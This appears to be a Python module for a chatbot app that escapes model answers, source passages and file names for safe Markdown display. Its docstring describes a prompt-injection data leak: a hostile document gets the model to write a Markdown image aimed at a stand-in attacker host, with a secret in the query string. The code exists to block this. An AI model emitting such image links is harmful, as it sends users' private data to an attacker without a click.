"""Rendering model output, document text and file names safely.

Text goes through ``st.markdown`` without ``unsafe_allow_html``, so raw HTML is shown as text, never run. An
image, though, would make the browser fetch its URL as soon as the answer is shown: a prompt-injected document
could have the model write ``![](https://evil.example/?q=<secret>)`` and leak data without a click.

Matching image syntax with a pattern is not enough (reference-style images, nested or escaped brackets each
got past one). What every Markdown image has in common, in CommonMark and GFM whatever its form, is an
unescaped ``!`` immediately followed by ``[``. So, after turning the common forms into a readable
``[image: alt]``, every remaining ``![`` gets an invisible WORD JOINER (U+2060) between its two characters:
the parser can then never open an image, in any form, and nothing visible changes, inside code spans too.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Sequence

_IMAGE = re.compile(r"!\[([^\]]*)\]\(([^)]*)\)")
_REF_IMAGE = re.compile(r"!\[([^\]]*)\]\[[^\]]*\]")
_JOINER = "\u2060"
# characters that are no text: control characters but tab and newline (C0, DEL, C1), the line and paragraph
# separators and the BOM, which Python and CommonMark do not read alike (a space to one, a letter to the other)
_NOT_TEXT = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\ufeff]")
_CONTROL = re.compile(f"[\t\n]|{_NOT_TEXT.pattern}")  # and, within one line of Markdown, tab and newline too


def safe_markdown(text: str) -> str:
    """``text`` with Markdown images made impossible: common forms shown as ``[image: alt]``, any other left
    as inert text."""
    text = _IMAGE.sub(lambda m: f"[image: {m.group(1) or 'no description'}]", text)
    text = _REF_IMAGE.sub(lambda m: f"[image: {m.group(1) or 'no description'}]", text)
    return text.replace("![", "!" + _JOINER + "[")


def code_span(text: str) -> str:
    """``text`` (a file name, a path) as a Markdown code span that nothing in it can close early: control
    characters (a newline could end the paragraph) become spaces, and the fence is longer than any run of
    backticks inside."""
    text = _CONTROL.sub(" ", text)
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    return f"{fence} {text} {fence}"


_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")


# GFM's autolink literals (a bare URL, "www.", an e-mail address) become links after the escapes are read: a
# WORD JOINER after "http", "https", "ftp", "www" and "@" keeps them text (after, not before, the "@": a joiner
# just inside the bold around a quote would stop "**" from closing it).
_AUTOLINK = re.compile(r"(?i)(?<![a-z])(https?|ftp|www)(?=\\[:.])|(\\@)")


def escape_markdown(text: str) -> str:
    """``text`` shown as it is: every ASCII punctuation character backslash-escaped (CommonMark lets any be), so
    no emphasis, link, image, code, heading, list, HTML or math can start in it, and no bare URL or e-mail
    address becomes a link (GFM); control characters (and the other characters that are no text) become spaces."""
    escaped = _PUNCTUATION.sub(r"\\\1", _CONTROL.sub(" ", text))
    return _AUTOLINK.sub(lambda m: m.group(0) + _JOINER, escaped)


def _punctuation_or_space(c: str) -> bool:
    """What CommonMark's flanking rules count as punctuation (Unicode P and S) or whitespace."""
    return c.isspace() or unicodedata.category(c)[0] in "PS"


def quote_markdown(before: str, quote: str, after: str) -> str:
    """A quote in bold between its context (:func:`chatbot.citations.quote_context`), all of it plain text.
    "**" only opens before punctuation when whitespace or punctuation comes before it (and closes after
    punctuation only when whitespace or punctuation follows): a space is put in where the text has neither."""
    before, quote, after = escape_markdown(before), escape_markdown(quote), escape_markdown(after)
    # spaces at the quote's edges stand outside the bold: "** x**" would not be bold at all
    core = quote.strip()
    if not core:
        return before + quote + after
    edge = quote.index(core)
    before, quote, after = before + quote[:edge], core, quote[edge + len(core) :] + after
    lead = " " if before and _punctuation_or_space(quote[0]) and not _punctuation_or_space(before[-1]) else ""
    trail = " " if after and _punctuation_or_space(quote[-1]) and not _punctuation_or_space(after[0]) else ""
    return f"{before}{lead}**{quote}**{trail}{after}"


def passage_markdown(text: str, quote: Sequence[int] | None = None, limit: int = 1200) -> str:
    """A source passage as Markdown that shows it as the text it is, with the answer's quote (``quote``: its
    offsets in ``text``) in bold. Every line is escaped (:func:`escape_markdown`) and loses the indentation that
    would make it code; lines stay lines and blank lines separate paragraphs. A passage over ``limit``
    characters is cut around the quote (or after ``limit``), marked "…" where it goes on."""
    # characters that are no text become spaces, one for one so the quote's offsets hold: they would otherwise
    # turn into indentation (a code block), a bare "** **" (a rule) or a bold that does not close
    text = _NOT_TEXT.sub(" ", text)
    start = end = 0
    if quote and len(quote) == 2 and all(isinstance(at, int) for at in quote):
        start = max(0, min(quote[0], len(text)))
        end = max(start, min(quote[1], len(text)))
    low, high = 0, len(text)
    if len(text) > limit:
        if end > start:  # the quote with as much of the passage on each side as the limit leaves
            low = max(0, min(start - max(0, limit - (end - start)) // 2, len(text) - limit))
            high = max(end, min(len(text), low + limit))
        else:
            high = limit
    paragraphs: list[list[str]] = [[]]
    at = low
    for line in text[low:high].split("\n"):
        line_start, at = at, at + len(line) + 1
        raw = line.rstrip("\r")
        if not raw.strip():
            if paragraphs[-1]:
                paragraphs.append([])
            continue
        indent = len(raw) - len(raw.lstrip())
        first, last = (
            max(start, line_start + indent) - line_start,
            min(end, line_start + len(raw)) - line_start,
        )
        if last > first:  # the quote's part on this line
            shown = quote_markdown(raw[indent:first], raw[first:last], raw[last:])
        else:
            shown = escape_markdown(raw[indent:])
        paragraphs[-1].append(shown)
    paragraphs = [p for p in paragraphs if p]
    if paragraphs and low > 0:
        paragraphs[0][0] = "…" + paragraphs[0][0]
    if paragraphs and high < len(text):
        paragraphs[-1][-1] += "…"
    return "\n\n".join(_lines(lines) for lines in paragraphs)


# an escaped line that starts an item, a heading, a quote or a table row in the document (or a numbered item)
_ITEM = re.compile(r"\\[-*+#>|]|\d+\\[.)]")


def _lines(lines: list[str]) -> str:
    """A paragraph's escaped lines: wrapped prose flows (a soft break), while a line that starts an item of a
    list, a heading, a quote or a table row, or follows a line ending in ":", starts a line of its own."""
    out = lines[0]
    for previous, line in zip(lines, lines[1:], strict=False):
        hard = _ITEM.match(line.lstrip("*")) or previous.rstrip("*").endswith("\\:")
        out += ("  \n" if hard else "\n") + line
    return out
